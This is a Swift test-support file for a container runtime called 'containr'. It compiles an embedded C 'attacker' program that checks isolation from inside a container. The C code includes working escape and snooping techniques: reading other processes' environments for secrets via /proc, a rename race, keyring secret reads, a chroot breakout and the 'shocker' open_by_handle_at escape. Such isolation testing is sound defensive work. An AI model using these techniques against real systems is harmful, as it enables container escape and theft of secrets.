// What attacks from inside, where busybox has no words for it: a small static C program, compiled once a test run.
import ContainrTestSupport
import Foundation
import SystemPackage

enum Attacker {
  /// Its path on the host; copy it into a layer.
  static func program() throws -> String { try built.get() }

  private static let scratch = Result { try ScratchDirectory("attacker") }
  private static let built = Result {
    let directory = try scratch.get()
    let code = try directory.write(source, to: "attacker.c")
    let program = directory.path + "/attacker"
    let compiler = Requirement.hasProgram("cc") ? "cc" : "clang"
    try run(compiler, ["-static", "-O1", "-w", "-o", program, code]).succeeding()
    atexit { Attacker.remove() }
    return program
  }

  private static func remove() {
    guard case .success(let directory) = scratch else { return }
    for path in [directory.path + "/attacker", directory.path + "/attacker.c"] { unlink(path) }
    rmdir(directory.path)
  }

  private static let source = #"""
    #define _GNU_SOURCE
    #include <dirent.h>
    #include <errno.h>
    #include <fcntl.h>
    #include <sched.h>
    #include <signal.h>
    #include <stdio.h>
    #include <stdlib.h>
    #include <string.h>
    #include <sys/stat.h>
    #include <sys/syscall.h>
    #include <sys/wait.h>
    #include <unistd.h>
    /* Looks at every process that is not its own as fast as it can, until somebody makes /stop, and tells what it could open of it. */
    static void spy(int seconds) {
      time_t end = time(0) + seconds;
      long seen = 0;
      while (time(0) < end && access("/stop", F_OK) != 0) {
        DIR *all = opendir("/proc");
        struct dirent *e;
        while ((e = readdir(all))) {
          int pid = atoi(e->d_name);
          if (pid <= 1 || pid == getpid()) continue;
          seen++;
          char path[128], target[512], environment[4096];
          snprintf(path, sizeof path, "/proc/%d/exe", pid);
          ssize_t n = readlink(path, target, sizeof target - 1);
          if (n > 0) {
            target[n] = 0;
            if (strstr(target, "containr")) printf("exe %s\n", target);
          }
          snprintf(path, sizeof path, "/proc/%d/environ", pid);
          int fd = open(path, O_RDONLY);
          if (fd >= 0) {
            n = read(fd, environment, sizeof environment - 1);
            close(fd);
            for (ssize_t i = 0; i < n; i += strlen(environment + i) + 1)
              if (strstr(environment + i, "CONTAINR_SECRET")) printf("environment %s\n", environment + i);
          }
          snprintf(path, sizeof path, "/proc/%d/fd", pid);
          DIR *files = opendir(path);
          struct dirent *f;
          while (files && (f = readdir(files))) {
            char file[256];
            if (f->d_name[0] == '.' || atoi(f->d_name) < 3) continue;
            snprintf(file, sizeof file, "/proc/%d/fd/%s", pid, f->d_name);
            n = readlink(file, target, sizeof target - 1);
            if (n > 0) target[n] = 0, printf("descriptor %s %s\n", f->d_name, target);
            strcat(file, "/sysrq-trigger");
            if (access(file, W_OK) == 0) printf("unmasked %s %s\n", f->d_name, target);
          }
          if (files) closedir(files);
        }
        closedir(all);
      }
      printf("seen %ld\n", seen);
    }
    /* Exchanges two names without a moment in which one is missing. */
    static void swap(const char *a, const char *b) {
      for (;;) syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
    }
    static void keys(const char *what) {
      if (!strcmp(what, "make")) {
        /* Of the user, which everybody without a session of their own finds; and of the session there may be. */
        long key = 0;
        for (int ring = -4; ring <= -3; ring++) {
          key = syscall(SYS_add_key, "user", "containr-secret", "s3cret", 6, ring);
          syscall(SYS_keyctl, 5 /* SETPERM */, key, 0x3f3f3f3f);
          syscall(SYS_keyctl, 15 /* SET_TIMEOUT */, key, 60);
        }
        printf("%s\n", key > 0 ? "made" : strerror(errno));
      } else {
        char text[64] = "";
        long key = syscall(SYS_keyctl, 10 /* SEARCH */, -3, "user", "containr-secret", 0);
        if (key > 0) syscall(SYS_keyctl, 11 /* READ */, key, text, sizeof text);
        printf("%s\n", key > 0 ? text : errno == EPERM ? "EPERM" : errno == ENOKEY ? "none" : strerror(errno));
      }
    }
    /* The old way out of a chroot. */
    static void climb(void) {
      mkdir("/tmp-climb", 0755);
      int out = open("/", O_RDONLY | O_DIRECTORY);
      if (chroot("/tmp-climb") != 0) perror("chroot");
      fchdir(out);
      for (int i = 0; i < 64; i++) chdir("..");
      chroot(".");
      struct stat s;
      stat("/", &s);
      printf("%llu %llu\n", (unsigned long long)s.st_dev, (unsigned long long)s.st_ino);
      printf("%s\n", access("/lib64/ld-linux-x86-64.so.2", F_OK) == 0 ? "outside" : "inside");
    }
    /* Opens a file by its handle: shocker. */
    static void handle(const char *path) {
      struct { struct file_handle h; unsigned char f[128]; } handle = {.h.handle_bytes = 128};
      int mount = 0;
      /* An overlay gives none: then that of the root of most file systems, as the first of its kind had it. */
      if (name_to_handle_at(AT_FDCWD, path, &handle.h, &mount, 0) != 0) handle.h.handle_bytes = 8, handle.h.handle_type = 1, handle.f[0] = 2;
      int root = open("/", O_RDONLY | O_DIRECTORY);
      int fd = open_by_handle_at(root, &handle.h, O_RDONLY);
      printf("%s\n", fd >= 0 ? "opened" : errno == EPERM ? "EPERM" : strerror(errno));
    }
    int main(int argc, char **argv) {
      setvbuf(stdout, 0, _IOLBF, 0);
      const char *what = argc > 1 ? argv[1] : "";
      if (!strcmp(what, "spy")) spy(atoi(argv[2]));
      else if (!strcmp(what, "swap")) swap(argv[2], argv[3]);
      else if (!strcmp(what, "keys")) keys(argv[2]);
      else if (!strcmp(what, "climb")) climb();
      else if (!strcmp(what, "handle")) handle(argv[2]);
      else if (!strcmp(what, "userns")) {
        printf("unshare %s\n", unshare(CLONE_NEWUSER) == 0 ? "ok" : strerror(errno));
        printf("clone %s\n", syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0) >= 0 ? "ok" : strerror(errno));
      }
      return 0;
    }
    """#
}
